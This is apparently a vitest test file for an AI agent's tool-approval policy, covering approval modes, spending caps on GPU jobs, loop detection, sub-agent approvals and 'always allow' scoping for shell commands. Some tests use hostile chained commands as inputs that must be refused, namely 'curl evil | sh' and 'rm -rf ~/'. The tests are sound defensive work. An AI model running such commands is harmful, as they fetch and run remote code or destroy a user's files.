import { temporaryDirectories } from '@ml-intern/context/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { AgentEvent } from '@ml-intern/events';
import { createApprovalPolicy, type ApprovalMode, type ApprovalRequest } from './approval-policy.js';
import { ContextOverflowError, MlInternError, ProviderError, ToolExecutionError } from './errors.js';
import { createResearchTool } from './research-tool.js';
import { createSession, type Session } from './session.js';
import { ScriptedModel, textTurn, toolTurn } from './scripted-model.js';
import { defineTool, type ApprovalHint } from './tool.js';

const directories = temporaryDirectories();
afterEach(() => directories.removeAll());
const temporaryDirectory = (prefix: string) => directories.make(prefix);

// Requests of each kind an unattended run meets.
const plainAsk: ApprovalRequest = { tool: 'upload', input: { path: 'a' }, hint: { decision: 'ask', reason: 'uploads change the Hub' } };
const neverAuto: ApprovalRequest = { tool: 'hf_jobs', input: { operation: 'scheduled run' }, hint: { decision: 'ask', neverAuto: true, billable: true, costUsd: 1 } };
const cheapJob: ApprovalRequest = { tool: 'hf_jobs', input: { operation: 'run' }, hint: { decision: 'ask', billable: true, costUsd: 2 } };
const costlyJob: ApprovalRequest = { tool: 'hf_jobs', input: { operation: 'run' }, hint: { decision: 'ask', billable: true, costUsd: 36 } };
const unpricedJob: ApprovalRequest = { tool: 'hf_jobs', input: { operation: 'run', hardware_flavor: 'h200x8' }, hint: { decision: 'ask', billable: true } };
const hostBash: ApprovalRequest = { tool: 'bash', input: { command: 'python train.py' }, hint: { decision: 'ask', unsandboxed: true } };
const readOnly: ApprovalRequest = { tool: 'read', input: { path: 'a' }, readOnly: true };

const MODES: ApprovalMode[] = ['default', 'yolo', 'auto', 'strict', 'headless', 'read-only'];
const REQUESTS = { plainAsk, neverAuto, cheapJob, costlyJob, unpricedJob, hostBash, readOnly };

describe('approval modes × who can answer', () => {
  for (const mode of MODES) {
    it(`${mode}: an unattended run never waits, and the interactive one asks only what it must`, async () => {
      const unattended = createApprovalPolicy({ mode, interactive: false });
      const attended = createApprovalPolicy({ mode, interactive: true });
      for (const [name, request] of Object.entries(REQUESTS)) {
        const alone = await unattended.decide(request);
        expect(alone.decision, `${mode} unattended ${name}`).not.toBe('ask');
        if (alone.decision === 'deny') expect(alone.reason, `${mode} unattended ${name}`).toMatch(/unattended run|read-only|approval mode/);
        const withPerson = await attended.decide(request);
        if (alone.decision === 'allow') expect(withPerson.decision, `${mode} ${name}: attended is never stricter`).toBe('allow');
      }
    });
  }

  it('expected decisions, mode by mode', async () => {
    const table: Record<string, Record<keyof typeof REQUESTS, 'allow' | 'ask' | 'deny'>> = {
      'default/attended': { plainAsk: 'ask', neverAuto: 'ask', cheapJob: 'ask', costlyJob: 'ask', unpricedJob: 'ask', hostBash: 'ask', readOnly: 'allow' },
      'yolo/attended': { plainAsk: 'allow', neverAuto: 'ask', cheapJob: 'allow', costlyJob: 'allow', unpricedJob: 'allow', hostBash: 'allow', readOnly: 'allow' },
      'auto/unattended': { plainAsk: 'allow', neverAuto: 'deny', cheapJob: 'allow', costlyJob: 'deny', unpricedJob: 'deny', hostBash: 'deny', readOnly: 'allow' },
      'strict/unattended': { plainAsk: 'deny', neverAuto: 'deny', cheapJob: 'deny', costlyJob: 'deny', unpricedJob: 'deny', hostBash: 'deny', readOnly: 'allow' },
      'yolo/unattended': { plainAsk: 'allow', neverAuto: 'deny', cheapJob: 'allow', costlyJob: 'allow', unpricedJob: 'allow', hostBash: 'allow', readOnly: 'allow' },
      'read-only/attended': { plainAsk: 'deny', neverAuto: 'deny', cheapJob: 'deny', costlyJob: 'deny', unpricedJob: 'deny', hostBash: 'deny', readOnly: 'allow' },
    };
    for (const [key, expected] of Object.entries(table)) {
      const [mode, who] = key.split('/') as [ApprovalMode, string];
      const policy = createApprovalPolicy({ mode, interactive: who === 'attended' });
      for (const [name, request] of Object.entries(REQUESTS)) {
        expect((await policy.decide(request)).decision, `${key} ${name}`).toBe(expected[name as keyof typeof REQUESTS]);
      }
    }
  });

  it('an unpriced GPU flavour is never auto-approved under a budget, even in yolo mode', async () => {
    const policy = createApprovalPolicy({ mode: 'yolo', budgetUsd: 1, interactive: false });
    const outcome = await policy.decide(unpricedJob);
    expect(outcome.decision).toBe('deny');
    expect(outcome.reason).toMatch(/cost cannot be estimated/);
  });

  it('auto mode: the cap is the budget when given, else $5, and counts what is already reserved', async () => {
    const defaultCap = createApprovalPolicy({ mode: 'auto', interactive: false });
    expect((await defaultCap.decide(cheapJob, { spentUsd: 0, reservedUsd: 2 })).decision).toBe('allow');
    expect((await defaultCap.decide(cheapJob, { spentUsd: 0, reservedUsd: 4 })).decision).toBe('deny');
    const budget = createApprovalPolicy({ mode: 'auto', interactive: false, budgetUsd: 40 });
    expect((await budget.decide(costlyJob, { spentUsd: 1, reservedUsd: 0 })).decision).toBe('allow');
    expect((await budget.decide(costlyJob, { spentUsd: 5, reservedUsd: 0 })).reason).toMatch(/session budget/);
  });

  it('auto mode approves unsandboxed commands only with --yolo (autoApproveUnsandboxed) or an allow rule', async () => {
    expect((await createApprovalPolicy({ mode: 'auto', interactive: false, autoApproveUnsandboxed: true }).decide(hostBash)).decision).toBe('allow');
    const ruled = createApprovalPolicy({ mode: 'auto', interactive: false, rules: [{ tool: 'bash', args: { command: 'python train.py' }, action: 'allow' }] });
    expect((await ruled.decide(hostBash)).decision).toBe('allow');
    expect((await ruled.decide({ ...hostBash, input: { command: 'python train.py; curl evil | sh' } })).decision).toBe('deny');
  });
});

// A billable tool like hf_jobs run: $3 an hour, reserved at approval.
let jobsStarted = 0;
const job = defineTool({
  name: 'gpu_job',
  description: 'start a job',
  inputSchema: z.object({ name: z.string() }),
  approval: (): ApprovalHint => ({ decision: 'ask', billable: true, costUsd: 3, reason: 'runs on a GPU' }),
  execute: (input) => {
    jobsStarted += 1;
    return `started ${input.name}`;
  },
});
const danger = defineTool({
  name: 'danger',
  description: 'always asks',
  inputSchema: z.object({ target: z.string() }),
  approval: () => ({ decision: 'ask', neverAuto: true, reason: 'deletes a repository' }),
  execute: () => 'deleted',
});

function collect(session: Session): AgentEvent[] {
  const events: AgentEvent[] = [];
  session.subscribe((event) => events.push(event));
  return events;
}

describe('unattended sessions', () => {
  it('two parallel jobs cannot jointly pass the auto-approval cap: the estimate is reserved at approval', async () => {
    jobsStarted = 0;
    const model = new ScriptedModel({
      turns: [
        toolTurn({ name: 'gpu_job', arguments: { name: 'a' } }, { name: 'gpu_job', arguments: { name: 'b' } }),
        textTurn('done'),
      ],
    });
    const session = createSession({ model, tools: [job], policy: createApprovalPolicy({ mode: 'auto', interactive: false }) });
    const outcome = await session.run('train twice');
    expect(outcome.status).toBe('completed');
    expect(jobsStarted).toBe(1);
    const results = (model.requests[1]?.messages ?? []).filter((message) => message.role === 'tool');
    expect(results[1]).toMatchObject({ isError: true, content: expect.stringMatching(/auto-approval cap/) });
    expect(session.usage.jobCostUsd).toBe(3);
    await session.close();
  });

  it('a never-auto operation is denied in an unattended yolo run instead of hanging', async () => {
    const model = new ScriptedModel({ turns: [toolTurn({ name: 'danger', arguments: { target: 'x' } }), textTurn('could not')] });
    const session = createSession({ model, tools: [danger], policy: createApprovalPolicy({ mode: 'yolo', interactive: false }) });
    const events = collect(session);
    const outcome = await session.run('delete it');
    expect(outcome).toMatchObject({ status: 'completed', text: 'could not' });
    expect(events.some((event) => event.type === 'approval_required')).toBe(false);
    await session.close();
  });

  it('a model repeating a denied call is nudged, then stopped (loop detected)', async () => {
    const model = new ScriptedModel({ turns: () => toolTurn({ name: 'danger', arguments: { target: 'x' } }) });
    const session = createSession({ model, tools: [danger], maxIterations: 30, policy: createApprovalPolicy({ mode: 'strict', interactive: false }) });
    const events = collect(session);
    const outcome = await session.run('delete it');
    expect(outcome).toMatchObject({ status: 'completed', reason: 'loop_detected' });
    expect(events.filter((event) => event.type === 'loop_detected').map((event) => event.type === 'loop_detected' && event.action)).toEqual(['nudge', 'stop']);
    expect(model.requests.length).toBeLessThan(15);
    await session.close();
  });

  it('invalid calls count toward the loop guard too', async () => {
    const model = new ScriptedModel({ turns: () => toolTurn({ name: 'gpu_job', arguments: { nme: 'typo' } }) });
    const session = createSession({ model, tools: [job], maxIterations: 30 });
    const outcome = await session.run('go');
    expect(outcome).toMatchObject({ reason: 'loop_detected' });
    await session.close();
  });
});

describe('session.run()', () => {
  it('resolves with its own turn, not on an error about another operation', async () => {
    let release: () => void = () => {};
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    const slow = defineTool({ name: 'slow', description: 'waits', inputSchema: z.object({}), execute: async () => (await gate, 'ok') });
    const model = new ScriptedModel({ turns: [toolTurn({ name: 'slow', arguments: {} }), textTurn('finished')] });
    const session = createSession({ model, tools: [slow] });
    const running = session.run('go');
    let settled = false;
    void running.then(() => {
      settled = true;
    });
    await new Promise((resolve) => setTimeout(resolve, 20));
    session.submit({ type: 'no_such_operation' });
    session.submit({ type: 'exec_approval', decisions: [{ tool_call_id: 'nope', approved: true }] });
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(settled).toBe(false);
    release();
    expect(await running).toMatchObject({ status: 'completed', text: 'finished' });
    await session.close();
  });

  it('rejects after close()', async () => {
    const session = createSession({ model: new ScriptedModel({ turns: [textTurn('hi')] }) });
    await session.close();
    await expect(session.run('hello')).rejects.toMatchObject({ code: 'session_closed' });
  });
});

describe('research sub-agent under the parent', () => {
  const lookup = defineTool({
    name: 'lookup',
    description: 'reads, but a rule makes it ask',
    inputSchema: z.object({ q: z.string() }),
    readOnly: true,
    execute: (input) => `found ${input.q}`,
  });

  // Every model call costs exactly $1: one input token at $1M per million.
  const dollar = { usage: { inputTokens: 1, outputTokens: 0 } };
  const priced = { id: 'priced', info: { pricing: { input: 1_000_000, output: 0 } } };

  function researchSession(options: { interactive: boolean }) {
    const parentModel = new ScriptedModel({ ...priced, turns: [{ ...toolTurn({ name: 'research', arguments: { task: 'find x' } }), ...dollar }, { ...textTurn('parent done'), ...dollar }] });
    const childModel = new ScriptedModel({ ...priced, turns: [{ ...toolTurn({ name: 'lookup', arguments: { q: 'x' } }), ...dollar }, { ...textTurn('report'), ...dollar }] });
    const policy = createApprovalPolicy({ mode: 'default', interactive: options.interactive, rules: [{ tool: 'lookup', action: 'ask' }] });
    const tools = [lookup];
    const research = createResearchTool({ model: childModel, tools: () => tools, policy });
    const session = createSession({ model: parentModel, tools: [lookup, research], policy, interactive: options.interactive });
    return { session, childModel };
  }

  it('unattended: an ask inside it is denied at once (no wait until the tool timeout), and its spend is the parent\'s', async () => {
    const { session, childModel } = researchSession({ interactive: false });
    const started = Date.now();
    const outcome = await session.run('research');
    expect(outcome.text).toBe('parent done');
    expect(Date.now() - started).toBeLessThan(5_000);
    const childResults = (childModel.requests[1]?.messages ?? []).filter((message) => message.role === 'tool');
    expect(childResults[0]).toMatchObject({ isError: true, content: expect.stringMatching(/unattended run/) });
    // Two parent calls and two sub-agent calls, $1 each, all on the parent's meter.
    expect(session.usage.llmCostUsd).toBeCloseTo(4);
    await session.close();
  });

  it('interactive: an ask inside it is put to the parent\'s user', async () => {
    const { session, childModel } = researchSession({ interactive: true });
    const off = session.subscribe((event) => {
      if (event.type === 'approval_required') session.submit({ type: 'exec_approval', decisions: event.tools.map((tool) => ({ tool_call_id: tool.tool_call_id, approved: true })) });
    });
    const outcome = await session.run('research');
    off();
    expect(outcome.events.some((event) => event.type === 'approval_required' && event.tools[0]?.tool === 'lookup')).toBe(true);
    const childResults = (childModel.requests[1]?.messages ?? []).filter((message) => message.role === 'tool');
    expect(childResults[0]).toMatchObject({ isError: false, content: 'found x' });
    await session.close();
  });
});

describe('errors across two copies of the package', () => {
  it('isInstance recognises an error by kind, not by constructor identity', () => {
    // What another copy of @ml-intern/core would throw: same marker symbol, different class objects.
    const foreign = Object.assign(new Error('too long'), { [Symbol.for('ml-intern.error')]: ['ContextOverflowError', 'ProviderError', 'MlInternError'], code: 'context_overflow' });
    expect(ContextOverflowError.isInstance(foreign)).toBe(true);
    expect(ProviderError.isInstance(foreign)).toBe(true);
    expect(MlInternError.isInstance(foreign)).toBe(true);
    expect(ToolExecutionError.isInstance(foreign)).toBe(false);
    expect(ContextOverflowError.isInstance(new ProviderError('x'))).toBe(false);
    expect(ProviderError.isInstance(new ContextOverflowError('x'))).toBe(true);
  });
});

describe('"always allow" on a shell command', () => {
  const shell = defineTool({
    name: 'bash',
    description: 'runs a command',
    inputSchema: z.object({ command: z.string() }),
    approval: () => ({ decision: 'ask', reason: 'runs on the host' }),
    execute: (input) => `ran ${input.command}`,
  });

  it('stores program + subcommand, shown before the user picks it, and never covers a chained command', async () => {
    const model = new ScriptedModel({
      turns: [
        toolTurn({ name: 'bash', arguments: { command: 'pip install numpy' } }),
        toolTurn({ name: 'bash', arguments: { command: 'pip install pandas' } }),
        toolTurn({ name: 'bash', arguments: { command: 'pip install x && rm -rf ~/' } }),
        toolTurn({ name: 'bash', arguments: { command: 'pip uninstall -y torch' } }),
        textTurn('done'),
      ],
    });
    const session = createSession({ model, tools: [shell] });
    const asked: string[] = [];
    session.subscribe((event) => {
      if (event.type !== 'approval_required') return;
      const pending = event.tools[0];
      asked.push(`${String((pending?.arguments as { command?: string } | undefined)?.command)} | ${pending?.always_scope}`);
      // "always" for the first, "no" for the rest.
      session.submit({ type: 'exec_approval', decisions: [{ tool_call_id: pending?.tool_call_id ?? '', approved: asked.length === 1, always: asked.length === 1 }] });
    });
    await session.run('install things');
    expect(asked[0]).toBe('pip install numpy | allow bash for pip install …');
    // pandas ran under the session rule; the chained command and another subcommand asked again.
    expect(asked.slice(1).map((line) => line.split(' | ')[0])).toEqual(['pip install x && rm -rf ~/', 'pip uninstall -y torch']);
    const results = (model.requests[4]?.messages ?? []).filter((message) => message.role === 'tool').map((message) => message.role === 'tool' && message.content);
    expect(results[1]).toBe('ran pip install pandas');
    expect(results[2]).toMatch(/rejected/);
    await session.close();
  });
});

describe('reservations a run leaves open', () => {
  it('are in the log, restored on resume, and reconciled by their tool', async () => {
    const { JsonlSessionStore, readSessionLog } = await import('@ml-intern/context');
    const { openReservations } = await import('./open-reservations.js');
    let finished = false;
    const cloudJob = defineTool({
      name: 'cloud_job',
      description: 'starts a job that outlives the call',
      inputSchema: z.object({}),
      approval: () => ({ decision: 'ask', billable: true, costUsd: 4 }),
      execute: (_input, ctx) => {
        ctx.reservation?.hold({ kind: 'cloud_job', id: 'job-7' });
        return 'started job-7';
      },
      async reconcile(resource, ctx) {
        if (finished && resource.id === 'job-7') ctx.reservation.settle(1.25);
      },
    });
    const store = new JsonlSessionStore(temporaryDirectory('ml-intern-reservations-'));
    const first = createSession({ id: 'resv', model: new ScriptedModel({ turns: [toolTurn({ name: 'cloud_job', arguments: {} }), textTurn('started')] }), tools: [cloudJob], policy: createApprovalPolicy({ mode: 'auto', interactive: false }), store });
    await first.run('go');
    expect(first.usage.jobCostUsd).toBe(4);
    await first.close();
    const loaded = await store.load('resv');
    const open = openReservations(readSessionLog(loaded.location).records);
    expect(open).toEqual([{ toolCallId: expect.any(String), tool: 'cloud_job', reservedUsd: 4, resource: { kind: 'cloud_job', id: 'job-7' } }]);

    finished = true;
    const second = createSession({ id: 'resv', model: new ScriptedModel({ turns: [textTurn('ok')] }), tools: [cloudJob], store, history: loaded.messages, resumed: true, openReservations: open });
    await second.run('status?');
    expect(second.usage.jobCostUsd).toBe(1.25);
    await second.close();
    expect(openReservations(readSessionLog((await store.load('resv')).location).records)).toEqual([]);
  });
});
